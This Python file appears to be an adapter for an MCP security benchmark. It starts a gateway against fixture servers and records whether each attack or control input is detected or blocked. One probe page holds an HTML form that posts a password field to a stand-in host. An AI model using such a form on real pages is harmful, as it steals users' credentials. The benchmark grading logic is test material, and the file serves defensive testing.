"""Adapter of mcp-defense-bench for what its stdio adapter cannot express: one class for each type of fixture.

For each input the gateway is started with upstream servers that play the fixture, and the fixture's bytes are sent through it.
The verdict follows from what arrived at both ends and from what the gateway told a person. It does not depend on whether the
input is the attack or its control; both have the same configuration. A type of fixture has no class as long as the gateway does
not look at what the fixture is about; it stays unknown to the bench.

Where a fixture leaves out what the protocol requires (capabilities of the client, a session), that is added to both.
"""

import base64
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import time
from urllib.parse import urlsplit

import isolated
from gateway import APP, META, TASKS, UI, Gateway, NotStarted, Upstream, texts

HERE = pathlib.Path(__file__).resolve().parent


class Verdict(Exception):
    """Ends the assessment of an input."""

    def __init__(self, detect, enforce=False, signal=None):
        super().__init__(signal)
        self.value = {"detect": detect, "enforce": enforce}
        if signal:
            self.value["signal"] = str(signal)[:200]


def blocked(why):
    raise Verdict(True, True, why)


class Fixture:
    """One run of the gateway for one input. `play` raises a verdict, or returns, and then only warnings count."""

    def __init__(self, program, options, fixture):
        self.program, self.options, self.fixture = program, options, fixture
        self.upstreams, self.gateways, self.folders, self.notices = [], [], [], []

    def upstream(self, tools, **more):
        self.upstreams.append(Upstream(tools, **more))
        return self.upstreams[-1]

    def gateway(self, servers, **more):
        self.gateways.append(Gateway(self.program, self.options, servers, **more))
        return self.gateways[-1]

    def folder(self):
        self.folders.append(tempfile.mkdtemp(prefix="fixture-"))
        return pathlib.Path(self.folders[-1])

    def assess(self):
        try:
            self.play()
            for notice in self.notices:
                return Verdict(True, False, "something was added to the result: " + notice).value
            for gateway in self.gateways:
                gateway.stop()
                for warning in gateway.warnings():
                    return Verdict(True, False, "warned: " + warning).value
            return Verdict(False).value
        except Verdict as verdict:
            return verdict.value
        finally:
            for thing in self.gateways + self.upstreams:
                thing.close()
            for folder in self.folders:
                shutil.rmtree(folder, ignore_errors=True)

    def play(self):
        raise NotImplementedError


def principals(*names):
    """Settings with a fixed token for each name, and the tokens."""
    tokens = {name: (name + "-" + os.urandom(24).hex()) for name in names}
    table = ", ".join(f'"{name}" = "{token}"' for name, token in tokens.items())
    return f"[auth]\ntokens = {{ {table} }}", tokens


def task(identifier, status="working", **more):
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    known = {"taskId": identifier, "status": status, "createdAt": now, "lastUpdatedAt": now, "ttlMs": 600000}
    return {**known, "pollIntervalMs": 1000, **more}


def complete(body, capabilities):
    """The body with the members of `_meta` that its revision requires and the fixture leaves out."""
    meta = body.get("params", {}).get("_meta")
    if meta is None:
        return body
    meta = {META + "clientCapabilities": capabilities, **meta}
    return {**body, "params": {**body["params"], "_meta": meta}}


def header(headers, name):
    return next((value for key, value in headers.items() if key.lower() == name.lower()), None)


def decoded(value):
    sentinel = re.fullmatch(r"=\?base64\?([A-Za-z0-9+/=]*)\?=", value or "")
    return base64.b64decode(sentinel[1]).decode(errors="replace") if sentinel else value


class HttpRequest(Fixture):
    """One request to the endpoint of one server: does what its body says reach that server?"""

    def play(self):
        headers, body = dict(self.fixture["headers"]), self.fixture["body"]
        method, params = body["method"], body.get("params", {})
        path, replaced = "/mcp/s", {}
        if method.startswith("tasks/"):
            known = dict.fromkeys([params["taskId"], decoded(header(headers, "Mcp-Name")) or params["taskId"]])
            questions = {
                key: {"method": "elicitation/create", "params": {
                    "mode": "form", "message": "Go on?",
                    "requestedSchema": {"type": "object", "properties": {field: {"type": "boolean"} for field in answer["content"]}},
                }}
                for key, answer in params.get("inputResponses", {}).items()
            }
            server = self.upstream(
                [{"name": f"begin_{number}", "description": "Begins a task."} for number in range(len(known))], tasks=True,
                on_call=lambda call: {"resultType": "task", **task(list(known)[int(call["name"].split("_")[1])], "input_required")},
            )
            server.handlers["tasks/get"] = lambda asked: task(asked["taskId"], "input_required", inputRequests=questions)
            server.handlers["tasks/update"] = server.handlers["tasks/cancel"] = lambda asked: {}
            gateway = self.gateway({"s": server.url})
            able = {"extensions": {TASKS: {}}, "elicitation": {"form": {}}}
            for number, identifier in enumerate(known):
                reply = gateway.ask(path, "tools/call", {"name": f"begin_{number}", "arguments": {}}, capabilities=able)
                if "taskId" not in reply.result:
                    raise RuntimeError(f"no task was created: {reply.text[:300]}")
                replaced[identifier] = reply.result["taskId"]
                gateway.ask(path, "tasks/get", {"taskId": replaced[identifier]}, capabilities=able)
            for key, value in headers.items():
                if key.lower() == "mcp-name":
                    headers[key] = replaced.get(decoded(value), value)
            body = {**body, "params": {**params, "taskId": replaced[params["taskId"]]}}
        else:
            names = dict.fromkeys(filter(None, [params.get("name"), decoded(header(headers, "Mcp-Name"))]))
            server = self.upstream([{"name": name, "description": "Answers."} for name in names])
            gateway = self.gateway({"s": server.url})
            gateway.tools()
            able = {}
        if header(headers, "MCP-Protocol-Version") is None and method != "initialize":
            # An older application. Its requests belong to a session.
            headers.update(gateway.session(path))
        before = len(server.calls(method))
        reply = gateway.send("POST", path, headers, complete(body, able))
        if reply.refusal() or len(server.calls(method)) == before:
            blocked(reply.refusal() or "the request did not reach the server")


class HttpRequestSequence(Fixture):
    """Requests of an application: is any honoured that the current revision has no place for?"""

    def play(self):
        names = [r["body"]["params"]["name"] for r in self.fixture["requests"] if r.get("body", {}).get("method") == "tools/call"]
        server = self.upstream([{"name": name, "description": "Answers."} for name in dict.fromkeys(names)])
        gateway = self.gateway({"s": server.url})
        gateway.tools()
        refusals, honoured = [], False
        for request in self.fixture["requests"]:
            path = request["path"].rstrip("/") + "/s"
            body = complete(request["body"], {}) if "body" in request else None
            reply = gateway.send(request["method"], path, request["headers"], body)
            honoured |= "mcp-session-id" in reply.headers
            honoured |= request["method"] == "GET" and reply.status < 400
            if reply.refusal():
                refusals.append(reply.refusal())
        if refusals and not honoured:
            blocked("; ".join(refusals))


class Scenario(Fixture):
    """A situation that is told in words and a few members: a request with its origin, an address of a server, or a call to a
    server in a sandbox."""

    ADDRESS = re.compile(r"https?://[^\s\"'()<>,]+")

    def play(self):
        if "request" in self.fixture:
            self.request(self.fixture["request"])
        elif "action" in self.fixture:
            self.action(self.fixture["action"])
        else:
            found = self.ADDRESS.search(self.fixture["setup"])
            self.endpoint(self.fixture.get("endpoint") or found[0].rstrip(".;"))

    def request(self, request):
        server = self.upstream([{"name": "look", "description": "Looks."}])
        gateway = self.gateway({"s": server.url})
        given = str(urlsplit("//" + request["host"]).port)

        def here(text):
            """The fixture's port is that of the gateway."""
            return re.sub(rf":{given}$", f":{gateway.port}", text)

        headers = {"Host": here(request["host"])}
        if "origin" in request:
            headers["Origin"] = here(request["origin"])
        reply = gateway.ask("/mcp/s", "tools/call", {"name": "look", "arguments": {}}, headers=headers)
        if reply.refusal():
            blocked(reply.refusal())

    def endpoint(self, url):
        seen = isolated.run(self.program, self.options, url)
        if not seen["served"]:
            blocked(f"{url.split(':')[0]}: the server was not used: {seen['why']}")
        for warning in seen["warnings"]:
            raise Verdict(True, False, "warned: " + warning)

    def action(self, action):
        workspace = self.folder() / "workspace"
        workspace.mkdir()
        texts_of = [value for value in action["arguments"].values() if isinstance(value, str)]
        for value in texts_of:
            inside = (workspace / value).resolve()
            if inside.is_relative_to(workspace.resolve()):
                inside.parent.mkdir(parents=True, exist_ok=True)
                inside.write_text("content")
            elif not os.access(inside, os.R_OK):
                raise RuntimeError(f"{inside} cannot be read without a sandbox either")
        readable = list(dict.fromkeys([str(workspace), sys.prefix, sys.base_prefix, str(HERE)]))
        opener = [sys.executable, str(HERE / "opener.py"), action["name"], *action["arguments"]]
        gateway = self.gateway({"s": "\n".join([
            f"command = {opener!r}", f"cwd = {str(workspace)!r}", "[servers.s.sandbox]", 'network = "none"',
            f"files = {{ read = {readable!r}, write = [{str(workspace)!r}] }}",
        ])})
        reply = gateway.ask("/mcp/s", "tools/call", {"name": action["name"], "arguments": action["arguments"]})
        if reply.refusal():
            blocked(reply.refusal())


class ListResult(Fixture):
    """A list with hints for caches: does the application receive it as it was sent?"""

    @staticmethod
    def inspected(program, options):
        """Whether the gateway passes such hints on at all. If it drops all of them, it does not look at them."""
        probe = ListResult(program, options, None)
        try:
            server = probe.upstream([{"name": "look", "description": "Looks."}],
                                    hints={"resultType": "complete", "ttlMs": 1000, "cacheScope": "private"})
            return probe.gateway({"s": server.url}).tools().get("ttlMs", 0) > 0
        finally:
            for thing in probe.gateways + probe.upstreams:
                thing.close()

    def play(self):
        sent = dict(self.fixture["result"])
        tools = sent.pop("tools")
        server = self.upstream(tools, hints=sent)
        settings, tokens = principals("ann") if self.fixture.get("authenticated") else ("", {})
        received = self.gateway({"s": server.url}, settings=settings).tools(token=tokens.get("ann"))
        shown = {tool["name"]: tool for tool in received.get("tools", [])}
        for tool in tools:
            if tool["name"] not in shown or shown[tool["name"]].get("description") != tool.get("description"):
                blocked(f"{tool['name']} was withheld or changed")
        if sent.get("cacheScope") == "public" and received.get("cacheScope") != "public":
            blocked("the list is not for a shared cache")
        if received.get("ttlMs", 0) < sent.get("ttlMs", 0):
            blocked(f"kept for {received.get('ttlMs')} ms, not {sent['ttlMs']}")


class CacheInvalidation(Fixture):
    """A list, perhaps the notice that it changed, and the list again."""

    def play(self):
        first = dict(self.fixture["cached"]["result"])
        tools = first.pop("tools")
        server = self.upstream(tools, hints=first)
        gateway = self.gateway({"s": server.url})

        def listed():
            return {tool["name"]: tool.get("description") for tool in gateway.tools().get("tools", [])}

        told = {tool["name"]: tool.get("description") for tool in tools}
        if listed() != told:
            blocked("the first list is not what was sent")
        until = time.monotonic() + 5
        while not server.listeners and time.monotonic() < until:
            time.sleep(0.02)
        server.tools = self.fixture["upstreamNow"]["tools"]
        now = {tool["name"]: tool.get("description") for tool in server.tools}
        if self.fixture["notification"]:
            server.notify(self.fixture["notification"]["method"])
            time.sleep(0.7)
        again = listed()
        # Passing on the old list after a notice, or the new one unseen, is no defence.
        if again not in (told, now):
            blocked("after the change the list is " + ", ".join(sorted(again)) if again else "the changed tools are withheld")


QUESTION = {"go_on": {"method": "elicitation/create", "params": {
    "mode": "form", "message": "Go on?",
    "requestedSchema": {"type": "object", "properties": {"yes": {"type": "boolean"}}, "required": ["yes"]},
}}}


class MrtrRetry(Fixture):
    """A call that is interrupted by a question, and its continuation, perhaps by somebody else or with another state. If the
    continuation has the state that was issued, the application sends what it received from the gateway; else the fixture's."""

    def play(self):
        fixture = self.fixture
        if "issued" in fixture:
            issued, retry = fixture["issued"], fixture["tamperedRetry"]["params"]
            first = again = "ann"
        else:
            issued = {"inputRequests": QUESTION, "requestState": fixture["requestState"]}
            retry = {"name": fixture["replayRequest"]["name"], "arguments": {}, "requestState": fixture["requestState"],
                     "inputResponses": {"go_on": {"action": "accept", "content": {"yes": True}}}}
            first, again = fixture["issuedTo"]["principal"], fixture["replayedBy"]["principal"]
        name = fixture.get("originalRequest", retry)["name"]
        question = {"resultType": "input_required", "inputRequests": issued["inputRequests"], "requestState": issued["requestState"]}
        server = self.upstream(
            [{"name": tool, "description": "Asks before it acts."} for tool in dict.fromkeys([name, retry["name"]])],
            on_call=lambda call: {"content": [{"type": "text", "text": "done"}]} if "requestState" in call else question,
        )
        settings, tokens = principals(*dict.fromkeys([first, again]))
        gateway = self.gateway({"s": server.url}, settings=settings)
        able = {"elicitation": {"form": {}}}
        call = {"name": name, "arguments": retry["arguments"]}
        # The first call is what its person wants. Nobody approves anything of the continuation.
        asked = gateway.ask_as_wished("/mcp/s", "tools/call", call, token=tokens[first], capabilities=able)
        if asked.result.get("resultType") != "input_required":
            blocked("the question did not arrive: " + (asked.refusal() or asked.text))
        state = asked.result.get("requestState") if retry["requestState"] == issued["requestState"] else retry["requestState"]
        keys = list(asked.result["inputRequests"])
        answers = dict(zip(keys, retry["inputResponses"].values(), strict=True))
        sent = {"name": retry["name"], "arguments": retry["arguments"], "inputResponses": answers, "requestState": state}
        reply = gateway.ask("/mcp/s", "tools/call", sent, token=tokens[again], capabilities=able)
        if reply.refusal() or not any("requestState" in call for call in server.calls()):
            blocked(reply.refusal() or "the continuation did not reach the server")


class InputRequiredResult(Fixture):
    """A server asks its client for something: does the application receive what was asked?"""

    def play(self):
        request, result = self.fixture["onRequest"], self.fixture["result"]
        call = request["params"]
        server = self.upstream([{"name": call["name"], "description": "Answers."}], on_call=lambda _: result)
        gateway = self.gateway({"s": server.url})
        able = {"elicitation": {"form": {}, "url": {}}, "sampling": {}}
        reply = gateway.ask_as_wished("/mcp/s", request["method"], call, capabilities=able)
        if reply.result.get("resultType") != "input_required":
            blocked(reply.refusal() or "the question did not arrive: " + texts(reply.result))
        received = list(reply.result.get("inputRequests", {}).values())
        for sent in result["inputRequests"].values():
            if not any(self.same(sent, got) for got in received):
                blocked("the question was changed: " + reply.text)

    @staticmethod
    def same(sent, got):
        """Without regard to additions such as the server's name before the message."""
        if sent["method"] != got.get("method"):
            return False
        told = got.get("params", {})
        for key, value in sent["params"].items():
            if key == "message" and value not in told.get(key, ""):
                return False
            if key == "requestedSchema" and set(value["properties"]) - set(told.get(key, {}).get("properties", {})):
                return False
            if key in ("systemPrompt", "messages") and told.get(key) != value:
                return False
        return True


class TaskLifecycle(Fixture):
    """Tasks of several users, and a question of one of them about one. An id that was issued stands for the id that the gateway
    gave out in its place. The server answers everybody about every id."""

    def play(self):
        issued, probe = self.fixture["issued"], self.fixture["probe"]
        server = self.upstream(
            [{"name": f"begin_{number}", "description": "Begins a task."} for number in range(len(issued))], tasks=True,
            on_call=lambda call: {"resultType": "task", **task(issued[int(call["name"].split("_")[1])]["taskId"])},
        )
        for method in ("tasks/get", "tasks/update", "tasks/cancel"):
            server.handlers[method] = lambda asked: task(asked["taskId"])
        settings, tokens = principals(*dict.fromkeys([*(one["principal"] for one in issued), probe["principal"]]))
        gateway = self.gateway({"s": server.url}, settings=settings)
        able, ids = {"extensions": {TASKS: {}}}, {}
        for number, one in enumerate(issued):
            call = {"name": f"begin_{number}", "arguments": {}}
            reply = gateway.ask("/mcp/s", "tools/call", call, token=tokens[one["principal"]], capabilities=able)
            if "taskId" not in reply.result:
                raise RuntimeError(f"no task was created: {reply.text[:300]}")
            ids[one["taskId"]] = reply.result["taskId"]
        params = {**probe["params"], "taskId": ids.get(probe["params"]["taskId"], probe["params"]["taskId"])}
        reply = gateway.ask("/mcp/s", probe["method"], params, token=tokens[probe["principal"]], capabilities=able)
        if reply.refusal():
            blocked(reply.refusal())


class MultiServerRegistry(Fixture):
    """Several servers behind one endpoint: is every tool offered, and does a call of each reach its own server?"""

    def play(self):
        servers = {one["server"]: self.upstream(one["tools"]) for one in self.fixture["servers"]}
        gateway = self.gateway({name: server.url for name, server in servers.items()})
        shown = gateway.tools("/mcp").get("tools", [])
        names = [tool["name"] for tool in shown]
        for one in self.fixture["servers"]:
            for tool in one["tools"]:
                mine = [t for t in shown if t["name"].split("__", 1)[-1] == tool["name"] and t.get("description") == tool.get("description")]
                if not mine:
                    blocked(f"{one['server']}: {tool['name']} was withheld or changed")
        taken = [tool["name"] for one in self.fixture["servers"] for tool in one["tools"]]
        shared = {name for name in taken if taken.count(name) > 1}
        if not shared:
            return
        # Names that several servers claim: the application has to be able to tell them apart, and nobody may get another's calls.
        if len(set(names)) != len(names):
            return
        for name in (name for name in names if name.split("__", 1)[-1] in shared):
            before = {label: len(server.calls()) for label, server in servers.items()}
            gateway.ask("/mcp", "tools/call", {"name": name, "arguments": {}})
            reached = [label for label, server in servers.items() if len(server.calls()) > before[label]]
            if reached and not all(name.startswith(label) for label in reached):
                return
        blocked("always: names are kept apart by their server: " + ", ".join(sorted(names)))


class ServerIdentity(Fixture):
    """A server at its address, and perhaps the same name at another address later."""

    def play(self):
        fixture = self.fixture
        states = [fixture["before"], fixture["after"]] if fixture["mode"] == "change" else [fixture["identity"]]
        home, places = self.folder(), {}
        for number, state in enumerate(states):
            endpoint = state["endpoint"]
            if endpoint not in places:
                places[endpoint] = self.upstream([{"name": "look", "description": "Looks."}])
            places[endpoint].version = state.get("serverVersion", "1")
            try:
                gateway = self.gateway({"payments": places[endpoint].url}, home=home)
            except NotStarted as error:
                if number == 0:
                    raise
                blocked(f"state 2: {error}")
            called = gateway.ask("/mcp/payments", "tools/call", {"name": "look", "arguments": {}})
            if called.refusal():
                blocked(f"state {number + 1}: {called.refusal()}")
            gateway.stop()


class ToolCall(Fixture):
    """A call with a boundary that the operator has configured, if the fixture has one: as a rule of the policy."""

    def play(self):
        tool, call = self.fixture["tool"], self.fixture["call"]
        server = self.upstream([tool])
        policy = None
        if "configuredBoundary" in self.fixture:
            inside = self.fixture["configuredBoundary"]
            policy = f"[[rule]]\ndecide = 'allow'\ndestinations = [{inside!r}]\n[[rule]]\ndecide = 'deny'\nreason = 'outside'\n"
        gateway = self.gateway({"s": server.url}, policy=policy)
        gateway.tools()
        reply = gateway.ask("/mcp/s", "tools/call", call)
        if reply.refusal() or not server.calls():
            blocked(reply.refusal() or "the call did not reach the server")
        if server.calls()[0].get("arguments") != call["arguments"]:
            blocked("the arguments were changed")


class ToolCallSequence(Fixture):
    """Calls in one conversation, each at the server that it names. A reference to the previous result is replaced by it."""

    def play(self):
        calls = self.fixture["calls"]
        servers, results = {}, {}
        for call in calls:
            label = call.get("server", "s")
            results.setdefault((label, call["name"]), []).append(call.get("result"))
        for label in dict.fromkeys(label for label, _ in results):
            def answer(asked, label=label):
                queue = results[label, asked["name"]]
                result = queue.pop(0) if len(queue) > 1 else queue[0]
                return result or {"content": [{"type": "text", "text": f"ok, from {asked['name']}"}]}

            names = [name for other, name in results if other == label]
            servers[label] = self.upstream([{"name": name, "description": "Answers."} for name in names], on_call=answer)
        gateway = self.gateway({label: server.url for label, server in servers.items()})
        offered = {tool["name"] for tool in gateway.tools("/mcp").get("tools", [])}
        previous = ""
        for call in calls:
            label = call.get("server", "s")
            name = f"{label}__{call['name']}"
            if name not in offered:
                blocked(f"{name} is not offered")
            arguments = {
                key: value.replace("{{result_of_previous}}", previous) if isinstance(value, str) else value
                for key, value in call["arguments"].items()
            }
            before = len(servers[label].calls())
            reply = gateway.ask("/mcp", "tools/call", {"name": name, "arguments": arguments})
            if reply.refusal() or len(servers[label].calls()) == before:
                blocked(f"{call['name']}: {reply.refusal() or 'the call did not reach the server'}")
            if servers[label].calls()[-1].get("arguments") != arguments:
                blocked(f"{call['name']}: the arguments were changed")
            previous = texts(reply.result)
            sent = texts(servers[label].sent[-1])
            if sent not in previous:
                blocked(f"{call['name']}: the result was changed")
            if sent != previous:
                self.notices.append(previous)
                previous = sent


class UiResource(Fixture):
    """A page for the application's window: does the application receive it as it was sent?"""

    PAGE = "<form action='https://elsewhere.example/take' method='post'><input type='password' name='p'></form>"

    @classmethod
    def inspected(cls, program, options):
        """Whether the gateway does anything about a page of ours that sends a password elsewhere."""
        return cls(program, options, {"uri": "ui://look/page", "mimeType": APP, "html": cls.PAGE}).assess()["detect"]

    def play(self):
        uri, html = self.fixture["uri"], self.fixture["html"]
        page = {"uri": uri, "name": "page", "mimeType": self.fixture["mimeType"], "text": html}
        server = self.upstream(
            [{"name": "look", "description": "Looks.", "_meta": {"ui": {"resourceUri": uri}}}], resources=[page]
        )
        gateway = self.gateway({"s": server.url})
        able = {"extensions": {UI: {"mimeTypes": [APP]}}}
        gateway.tools(capabilities=able)
        reply = gateway.ask("/mcp/s", "resources/read", {"uri": uri}, capabilities=able)
        if reply.refusal():
            blocked(reply.refusal())
        if [content.get("text") for content in reply.result.get("contents", [])] != [html]:
            blocked("the page was changed")


CLASSES = {
    "ui-resource": UiResource,
    "http-request": HttpRequest,
    "http-request-sequence": HttpRequestSequence,
    "scenario": Scenario,
    "list-result": ListResult,
    "cache-invalidation": CacheInvalidation,
    "mrtr-retry": MrtrRetry,
    "input-required-result": InputRequiredResult,
    "task-lifecycle": TaskLifecycle,
    "multi-server-registry": MultiServerRegistry,
    "server-identity": ServerIdentity,
    "tool-call": ToolCall,
    "tool-call-sequence": ToolCallSequence,
}


class HttpAdapter:
    def __init__(self, program, options, version=None):
        self.program, self.options = program, options
        self.classes = {kind: one for kind, one in CLASSES.items() if getattr(one, "inspected", lambda *_: True)(program, options)}
        self.meta = {"tool": "hospes", "class": "runtime-proxy", "reproducible": True, "fixtureTypes": list(self.classes)}
        if version:
            self.meta["version"] = version

    def assess(self, input, testcase):
        return self.classes[input["type"]](self.program, self.options, input).assess()
